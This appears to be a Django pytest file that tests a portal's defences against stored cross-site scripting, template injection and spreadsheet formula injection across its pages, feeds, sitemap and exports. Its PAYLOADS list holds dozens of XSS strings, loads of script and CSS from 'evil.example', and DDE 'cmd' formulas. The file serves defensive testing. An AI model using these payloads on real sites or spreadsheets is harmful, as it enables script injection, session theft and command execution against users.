"""Stored XSS: whatever staff type into a text field is shown as text on
every page, feed and export that shows it, in public and in the admin."""

import csv
import html
import io
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from urllib.parse import urlencode

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from PIL import Image

from aidportal.kernel.downloads import FORMULA_PREFIXES
from articles.models import Article, ArticleImage, Channel
from personnel.models import Assignment, Batch, Person, Term, Unit
from projects.models import Project, ProjectImage
from tests.builders import (
    article_post,
    gallery_inline_rows,
    make_article,
    make_channel,
    nonce_of,
    person_post,
    project_post,
)

pytestmark = pytest.mark.django_db


PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-src": '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
    "script-upper-mixed": "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-entities": '<img src="x" onerror="&#97;&#108;ert(1)">',
    "attr-breakout-double": '"><img src=x onerror=alert(1)>',
    "attr-breakout-single": "'><svg onload=alert(1)>",
    "attr-breakout-unquoted": "x onmouseover=alert(1) x=",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text y=20>点我</text></a></svg>"
    ),
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript-href": '<a href="javascript:alert(1)">点我</a>',
    "javascript-href-case": '<a href="JaVaScRiPt:alert(1)">点我</a>',
    "javascript-href-entity": '<a href="&#106;avascript:alert(1)">点我</a>',
    "javascript-href-tab": '<a href="java\tscript:alert(1)">点我</a>',
    "javascript-bare": "javascript:alert(1)",
    "data-html-href": '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "object-data": (
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
        "</object>"
    ),
    "embed": '<embed src="javascript:alert(1)">',
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "style-import": "<style>@import 'http://evil.example/x.css';</style>",
    "style-attribute": '<div style="background:url(javascript:alert(1))">援疆</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="//evil.example/">',
    "form-action": '<form action="//evil.example/"><button>提交</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">提交</button>',
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    "noscript-breakout": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    "comment-breakout": "--><script>alert(1)</script><!--",
    "cdata-breakout": "]]><script>alert(1)</script><![CDATA[",
    "js-string-breakout": "';alert(1);//\"",
    "unknown-tag-handler": "<x onmouseover=alert(1)>悬停</x>",
    "fullwidth-brackets": "＜script＞alert(1)＜/script＞",
    "json-escaped": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "url-escaped": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "template-expression": "{{7*7}}",
    "template-debug": "{% debug %}",
    "template-settings": "{{ settings.SECRET_KEY }}{% load static %}",
    "other-template-languages": "${7*7} #{7*7} <%= 7*7 %>",
    "formula-hyperlink": '=HYPERLINK("http://evil.example","点我")',
    "formula-dde": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
}

FORMULAS = ["formula-hyperlink", "formula-dde", "formula-at", "formula-minus"]
# Payloads that only matter elsewhere: inside a script, or to a parser the
# site does not use (full-width brackets, escaped forms, other templates).
NOT_MARKUP = [
    "js-string-breakout",
    "fullwidth-brackets",
    "json-escaped",
    "url-escaped",
    "template-expression",
    "template-debug",
    "template-settings",
    "other-template-languages",
    *FORMULAS,
]
TEMPLATE_LOOK_ALIKES = [
    "template-expression",
    "template-debug",
    "template-settings",
    "other-template-languages",
]

SCRIPT_SOURCES = (settings.STATIC_URL, "/admin/jsi18n/")
URL_ATTRIBUTES = {
    "action",
    "background",
    "cite",
    "data",
    "from",
    "formaction",
    "href",
    "longdesc",
    "poster",
    "src",
    "srcset",
    "to",
    "values",
    "xlink:href",
}
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:text/html")
# Elements this site never renders: one on a page came from stored text.
FOREIGN_ELEMENTS = {
    "applet",
    "base",
    "embed",
    "frame",
    "frameset",
    "iframe",
    "math",
    "marquee",
    "noscript",
    "object",
    "style",
    "x",
}


def fit(model, field, value):
    """The value cut to the field's max_length, as a form would accept it."""
    max_length = model._meta.get_field(field).max_length
    return value[:max_length].strip() if max_length else value


def tiny_png(name="pic.png"):
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), "#2a6f97").save(buffer, "PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


def store_everywhere(client, payload):
    """The payload in every text field staff can edit: articles, projects and
    people through their admin forms, the rest with the ORM."""
    channel = Channel.objects.create(
        name=fit(Channel, "name", payload), slug="xss", description=payload
    )
    batch = Batch.objects.create(number=10, label=fit(Batch, "label", payload))
    sending = Unit.objects.create(
        name=fit(Unit, "name", payload),
        short_name=fit(Unit, "short_name", payload),
        aliases=fit(Unit, "aliases", payload),
    )
    receiving = Unit.objects.create(name=fit(Unit, "name", "阿克苏" + payload))
    term = Term.objects.create(batch=batch, name=fit(Term, "name", payload))

    person_form = person_post(
        name=fit(Person, "name", payload),
        status="published",
        bio=payload,
        photo=tiny_png(),
        photo_alt=fit(Person, "photo_alt", payload),
        **{
            "assignments-TOTAL_FORMS": "1",
            "assignments-0-id": "",
            "assignments-0-person": "",
            "assignments-0-batch": batch.pk,
            "assignments-0-term": term.pk,
            "assignments-0-sending_unit": sending.pk,
            "assignments-0-receiving_unit": receiving.pk,
            "assignments-0-position": fit(Assignment, "position", payload),
            "assignments-0-arrived_on": "2021-07-01",
            "assignments-0-left_on": "",
        },
    )
    response = client.post(reverse("admin:personnel_person_add"), person_form)
    assert response.status_code == 302, response.context["adminform"].form.errors
    person = Person.objects.get()

    gallery_row = {
        "alt": fit(ArticleImage, "alt", payload),
        "caption": fit(ArticleImage, "caption", payload),
    }
    assert gallery_row == {
        "alt": fit(ProjectImage, "alt", payload),
        "caption": fit(ProjectImage, "caption", payload),
    }
    project_form = project_post(
        name=fit(Project, "name", payload),
        summary=fit(Project, "summary", payload),
        body=payload,
        location=fit(Project, "location", payload),
        partner=fit(Project, "partner", payload),
        cover=tiny_png(),
        cover_alt=fit(Project, "cover_alt", payload),
        cover_caption=fit(Project, "cover_caption", payload),
        status=Project.Status.PUBLISHED,
        people=[person.pk],
        **gallery_inline_rows({"image": tiny_png(), **gallery_row}),
    )
    response = client.post(reverse("admin:projects_project_add"), project_form)
    assert response.status_code == 302, response.context["adminform"].form.errors
    project = Project.objects.get()

    article_form = article_post(
        channel=channel,
        title=fit(Article, "title", payload),
        subtitle=fit(Article, "subtitle", payload),
        summary=fit(Article, "summary", payload),
        body=payload,
        cover=tiny_png(),
        cover_alt=fit(Article, "cover_alt", payload),
        cover_caption=fit(Article, "cover_caption", payload),
        source=fit(Article, "source", payload),
        author=fit(Article, "author", payload),
        editor=fit(Article, "editor", payload),
        status=Article.Status.PUBLISHED,
        projects=[project.pk],
        people=[person.pk],
        **gallery_inline_rows({"image": tiny_png(), **gallery_row}),
    )
    response = client.post(reverse("admin:articles_article_add"), article_form)
    assert response.status_code == 302, response.context["adminform"].form.errors
    article = Article.objects.get()

    # One more article, deleted: the admin's trash lists it by its title.
    deleted = make_article(title=fit(Article, "title", payload), channel=channel)
    deleted.delete()

    return {
        "payload": payload,
        "channel": channel,
        "batch": batch,
        "sending": sending,
        "receiving": receiving,
        "person": person,
        "assignment": person.assignments.get(),
        "project": project,
        "project_image": project.images.get(),
        "article": article,
        "article_image": article.images.get(),
        "deleted": deleted,
    }


# Reading pages


class Page(HTMLParser):
    """The elements, attributes and texts of an HTML page, as a browser would
    read them (entities decoded)."""

    def __init__(self, markup):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attribute: value})
        self.texts = []
        self.scripts = []  # [attributes, inline text]
        self._in_script = False
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if tag == "script":
            self.scripts.append([attributes, ""])
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1][1] += data
        self.texts.append(data)

    def shows(self, value):
        """Whether the value is shown as text or as an attribute's value."""
        return any(value in text for text in self.texts) or any(
            value in attribute
            for _tag, attributes in self.elements
            for attribute in attributes.values()
        )


def unsafe_url(value):
    # Browsers ignore control characters and whitespace inside a scheme.
    cleaned = re.sub(r"[\x00-\x20]+", "", html.unescape(value)).lower()
    return cleaned.startswith(UNSAFE_SCHEMES)


def assert_inert(markup, where, *, nonce=None):
    """Stored text created no script, handler, unsafe URL or foreign element."""
    page = Page(markup)
    for tag, attributes in page.elements:
        handlers = [name for name in attributes if name.startswith("on")]
        assert not handlers, f"{where}: <{tag} {handlers}>"
        for name, value in attributes.items():
            if name in URL_ATTRIBUTES:
                candidates = value.split(",") if name == "srcset" else [value]
                for candidate in candidates:
                    assert not unsafe_url(candidate), f"{where}: <{tag} {name}={value}>"
        style = attributes.get("style", "").lower()
        assert "javascript:" not in style, f"{where}: <{tag} style={style}>"
        assert "expression(" not in style, f"{where}: <{tag} style={style}>"
        assert tag not in FOREIGN_ELEMENTS, f"{where}: <{tag} {attributes}>"
        if tag == "meta":
            assert "http-equiv" not in attributes, f"{where}: <meta {attributes}>"
        if tag == "form":
            action = attributes.get("action", "")
            assert not action.startswith("//"), f"{where}: <form action={action}>"
            assert action == "" or action.startswith(("/", "?")), where
    for attributes, text in page.scripts:
        source = attributes.get("src", "")
        if source:
            assert source.startswith(SCRIPT_SOURCES), f"{where}: {attributes}"
            assert not text.strip(), f"{where}: {attributes} {text!r}"
        else:
            # Only the admin's import map, which carries the request's nonce.
            assert nonce and attributes.get("nonce") == nonce, f"{where}: {text!r}"
            assert attributes.get("type") == "importmap", f"{where}: {attributes}"
    return page


def assert_page_inert(client, url, shown, where):
    response = client.get(url)
    assert response.status_code == 200, (where, response.status_code)
    page = assert_inert(response.content.decode(), where, nonce=nonce_of(response))
    for value in shown:
        assert value, f"{where}: an empty value cannot show anything"
        assert page.shows(value), f"{where} does not show {value!r} as text"
    return page


def public_pages(s):
    a, p, person, asg = s["article"], s["project"], s["person"], s["assignment"]
    image, project_image = s["article_image"], s["project_image"]
    channel, batch = s["channel"], s["batch"]
    query = s["payload"][:50].strip()
    return {
        "home": (reverse("home"), [a.title, channel.name]),
        "channel": (
            channel.get_absolute_url(),
            [channel.name, channel.description, a.title, a.summary, a.cover_alt],
        ),
        "article-list": (reverse("articles:list"), [a.title, a.summary, a.cover_alt]),
        "article": (
            a.get_absolute_url(),
            [
                a.title,
                a.subtitle,
                a.summary,
                a.cover_alt,
                a.cover_caption,
                a.source,
                a.author,
                a.editor,
                image.alt,
                image.caption,
                channel.name,
                p.name,
                person.name,
            ],
        ),
        "project-list": (reverse("projects:list"), [p.name, p.summary, p.cover_alt]),
        "project": (
            p.get_absolute_url(),
            [
                p.name,
                p.summary,
                p.location,
                p.partner,
                p.cover_alt,
                p.cover_caption,
                project_image.alt,
                project_image.caption,
                person.name,
                a.title,
            ],
        ),
        "roster": (
            reverse("personnel:list"),
            [
                person.name,
                asg.position,
                asg.term.name,
                batch.label,
                s["sending"].name,
                s["receiving"].name,
            ],
        ),
        "roster-search": (
            reverse("personnel:list") + "?" + urlencode({"q": query}),
            [query, person.name],
        ),
        "roster-unit": (
            reverse("personnel:list")
            + "?"
            + urlencode({"receiving_unit": s["receiving"].pk, "sort": "name"}),
            [s["receiving"].name, person.name],
        ),
        "person": (
            person.get_absolute_url(),
            [
                person.name,
                person.bio,
                person.photo_alt,
                asg.term.name,
                asg.position,
                batch.label,
                s["sending"].name,
                s["receiving"].name,
                a.title,
                p.name,
            ],
        ),
        "search": (
            reverse("search") + "?" + urlencode({"q": query}),
            [query, a.title, p.name, person.name],
        ),
        "search-articles": (
            reverse("search") + "?" + urlencode({"q": query, "type": "articles"}),
            [query, a.title, a.summary],
        ),
    }


def admin_pages(s):
    a, p, person, asg = s["article"], s["project"], s["person"], s["assignment"]
    image, project_image = s["article_image"], s["project_image"]
    channel, sending = s["channel"], s["sending"]
    query = s["payload"][:30].strip()

    def url(name, *args):
        return reverse(f"admin:{name}", args=args)

    return {
        "index": (url("index"), [a.title, p.name, person.name]),
        "article-changelist": (url("articles_article_changelist"), [a.title]),
        "article-search": (
            url("articles_article_changelist") + "?" + urlencode({"q": query}),
            [query, a.title],
        ),
        "article-change": (
            url("articles_article_change", a.pk),
            [
                a.title,
                a.subtitle,
                a.summary,
                a.cover_alt,
                a.cover_caption,
                a.source,
                a.author,
                a.editor,
                image.alt,
                image.caption,
                p.name,
                person.name,
            ],
        ),
        "article-history": (url("articles_article_history", a.pk), [a.title]),
        "article-delete": (url("articles_article_delete", a.pk), [a.title]),
        "article-trash": (url("articles_article_deleted"), [s["deleted"].title]),
        "article-preview": (a.get_preview_url(), [a.title, a.summary]),
        "project-changelist": (url("projects_project_changelist"), [p.name]),
        "project-change": (
            url("projects_project_change", p.pk),
            [
                p.name,
                p.summary,
                p.location,
                p.partner,
                p.cover_alt,
                p.cover_caption,
                project_image.alt,
                project_image.caption,
            ],
        ),
        "person-changelist": (url("personnel_person_changelist"), [person.name]),
        "person-search": (
            url("personnel_person_changelist") + "?" + urlencode({"q": query}),
            [query],
        ),
        "person-change": (
            url("personnel_person_change", person.pk),
            [person.name, person.bio, person.photo_alt, asg.term.name, asg.position],
        ),
        "person-history": (url("personnel_person_history", person.pk), [person.name]),
        "unit-changelist": (
            url("personnel_unit_changelist"),
            [sending.name, sending.short_name, sending.aliases],
        ),
        "unit-change": (
            url("personnel_unit_change", sending.pk),
            [sending.name, sending.short_name, sending.aliases],
        ),
        "assignment-changelist": (
            url("personnel_assignment_changelist"),
            [asg.position, asg.term.name, person.name],
        ),
        "assignment-change": (
            url("personnel_assignment_change", asg.pk),
            [asg.term.name, asg.position],
        ),
        "batch-changelist": (url("personnel_batch_changelist"), [s["batch"].label]),
        "batch-change": (
            url("personnel_batch_change", s["batch"].pk),
            [s["batch"].label, asg.term.name],
        ),
        "channel-changelist": (url("articles_channel_changelist"), [channel.name]),
        "channel-change": (
            url("articles_channel_change", channel.pk),
            [channel.name, channel.description],
        ),
    }


@pytest.mark.parametrize("name", [name for name in PAYLOADS if name not in NOT_MARKUP])
def test_checker_sees_the_payload_when_it_is_not_escaped(name):
    """The checks catch what they look for: every markup payload, pasted
    unescaped into some place of a page, fails them."""
    payload = PAYLOADS[name]
    caught = []
    for place in (
        "<p>{}</p>",
        '<a href="/" title="{}">x</a>',
        "<a href='/' title='{}'>x</a>",
        "<a href=/ title={}>x</a>",
        '<a href="{}">x</a>',
    ):
        try:
            assert_inert(place.format(payload), place)
        except AssertionError:
            caught.append(place)
    assert caught


# Every page that shows stored text


@pytest.mark.parametrize(
    "payload",
    [payload for name, payload in PAYLOADS.items() if name not in FORMULAS],
    ids=[name for name in PAYLOADS if name not in FORMULAS],
)
def test_stored_text_is_shown_as_text_on_every_page(admin_client, client, payload):
    stored = store_everywhere(admin_client, payload)
    for where, (url, shown) in public_pages(stored).items():
        page = assert_page_inert(client, url, shown, where)
        assert not page.shows(settings.SECRET_KEY), where
    for where, (url, shown) in admin_pages(stored).items():
        assert_page_inert(admin_client, url, shown, f"admin {where}")


@pytest.mark.parametrize(
    "payload",
    [PAYLOADS[name] for name in TEMPLATE_LOOK_ALIKES],
    ids=TEMPLATE_LOOK_ALIKES,
)
def test_template_look_alikes_are_shown_as_typed(client, payload):
    # The body starts otherwise, or the page would leave out the summary as
    # a repeat of it.
    article = make_article(
        title=payload, summary=payload, body=f"<p>正文。</p><p>{payload}</p>"
    )
    page = Page(client.get(article.get_absolute_url()).content.decode())
    # The heading, the summary and the body's paragraph, each exactly as typed
    # ("{{7*7}}", not "49"; "{% debug %}", not a dump of the context).
    assert page.texts.count(payload) == 3, [t for t in page.texts if t.strip()]


# Feeds, sitemap and exports: every payload at once


@pytest.fixture
def corpus():
    """A published article per payload, with it as title, subtitle, summary,
    body and author, in two channels (a feed holds 30 items) whose names and
    descriptions are payloads too: [(channel, [article, …]), …]."""
    payloads = list(PAYLOADS.values())
    half = (len(payloads) + 1) // 2
    channels = []
    for chunk in (payloads[:half], payloads[half:]):
        channel = make_channel(
            name=fit(Channel, "name", chunk[0]), description=chunk[1]
        )
        articles = [
            make_article(
                channel=channel,
                title=fit(Article, "title", payload),
                subtitle=fit(Article, "subtitle", payload),
                summary=fit(Article, "summary", payload),
                body=payload,
                author=fit(Article, "author", payload),
            )
            for payload in chunk
        ]
        channels.append((channel, articles))
    return channels


def feed_items(response):
    """The feed's <channel> and its items by link; the XML must be well-formed."""
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/rss+xml")
    rss = ET.fromstring(response.content).find("channel")
    return rss, {item.findtext("link"): item for item in rss.iter("item")}


def link(article):
    return f"http://testserver{article.get_absolute_url()}"


def test_feeds_are_well_formed_and_carry_the_text_as_typed(client, corpus):
    for channel, articles in corpus:
        url = reverse("channel-feed", args=[channel.slug])
        rss, items = feed_items(client.get(url))
        assert len(items) == len(articles)
        for article in articles:
            item = items[link(article)]
            assert item.findtext("title") == article.title
            # <description> is HTML to a reader: the plain-text summary is
            # escaped once more, so the reader shows it as typed.
            assert item.findtext("description") == escape(article.summary)
            assert item.findtext("category") == channel.name
        assert channel.name in rss.findtext("title")
        assert rss.findtext("description") == escape(channel.description)
    _rss, items = feed_items(client.get(reverse("feed")))
    articles = {link(a): a for _channel, chunk in corpus for a in chunk}
    assert items
    for url, item in items.items():
        assert item.findtext("title") == articles[url].title


def html_text(markup):
    """What a reader shows for HTML: its text, entities decoded."""
    return "".join(Page(markup).texts)


def test_feed_descriptions_show_plain_text_summaries_as_typed(client, corpus):
    """RSS readers render <description> as HTML: a plain-text summary must be
    HTML-escaped in it, or "<img src=x onerror=…>" typed as a summary runs in
    the readers of the feed."""
    live = {}
    for channel, articles in corpus:
        rss, items = feed_items(
            client.get(reverse("channel-feed", args=[channel.slug]))
        )
        for article in articles:
            description = items[link(article)].findtext("description")
            if html_text(description) != article.summary:
                live[article.summary] = [tag for tag, _ in Page(description).elements]
        if html_text(rss.findtext("description")) != channel.description:
            live[channel.description] = "the channel's description"
    assert live == {}


def test_sitemap_lists_only_site_addresses(client, corpus):
    articles = [article for _channel, chunk in corpus for article in chunk]
    response = client.get(reverse("django.contrib.sitemaps.views.sitemap"))
    assert response.status_code == 200
    namespace = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
    root = ET.fromstring(response.content)
    locations = [loc.text for loc in root.iter(f"{namespace}loc")]
    for article in articles:
        assert f"http://testserver{article.get_absolute_url()}" in locations
    assert all(loc.startswith("http://testserver/") for loc in locations)


@pytest.fixture
def roster_corpus():
    """A public person per payload, with it in every exported text field."""
    assignments = []
    for number, payload in enumerate(PAYLOADS.values(), start=1):
        person = Person.objects.create(name=fit(Person, "name", payload))
        batch = Batch.objects.create(number=number, label=fit(Batch, "label", payload))
        assignments.append(
            Assignment.objects.create(
                person=person,
                batch=batch,
                term=Term.objects.create(batch=batch, name=fit(Term, "name", payload)),
                # Unit names are unique once normalised: number them.
                sending_unit=Unit.objects.create(
                    name=fit(Unit, "name", payload)[:95] + f" {number:03d}"
                ),
                receiving_unit=Unit.objects.create(
                    name=fit(Unit, "name", f"阿克苏{number:03d}{payload}")
                ),
                position=fit(Assignment, "position", payload),
            )
        )
    return assignments


def exported(value):
    """A text cell as an export must hold it: never read as a formula."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def expected_rows(assignments):
    return sorted(
        [
            exported(a.person.name),
            exported(a.batch.label),
            exported(a.term.name),
            exported(a.sending_unit.name),
            exported(a.receiving_unit.name),
            exported(a.position),
        ]
        for a in assignments
    )


def test_csv_export_is_an_attachment_without_formulas(client, roster_corpus):
    response = client.get(reverse("personnel:export-csv"))
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    _header, *rows = csv.reader(io.StringIO(body, newline=""))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    text_columns = [[r[0], r[2], r[3], r[4], r[5], r[6]] for r in rows]
    assert sorted(text_columns) == expected_rows(roster_corpus)


def test_xlsx_export_holds_no_formulas(client, roster_corpus):
    response = client.get(reverse("personnel:export-xlsx"))
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    _header, *rows = sheet.iter_rows()
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
    text_columns = [[row[i].value or "" for i in (0, 2, 3, 4, 5, 6)] for row in rows]
    assert sorted(text_columns) == expected_rows(roster_corpus)


# The longest text the forms accept


def test_person_with_the_longest_name_the_admin_accepts_is_saved(admin_client):
    """A 50-character name (the field's max_length) with a surname of two
    readings: its pinyin, both readings joined, must still fit its column."""
    name = ("曾" + "阿卜杜热合曼·买买提明·" * 5)[
        : Person._meta.get_field("name").max_length
    ]
    assert len(name) == 50
    response = admin_client.post(
        reverse("admin:personnel_person_add"),
        person_post(name=name, status="published"),
    )
    assert response.status_code == 302
    person = Person.objects.get()
    assert person.name == name
    assert person.pinyin.startswith("zeng")
    assert admin_client.get(person.get_absolute_url()).status_code == 200
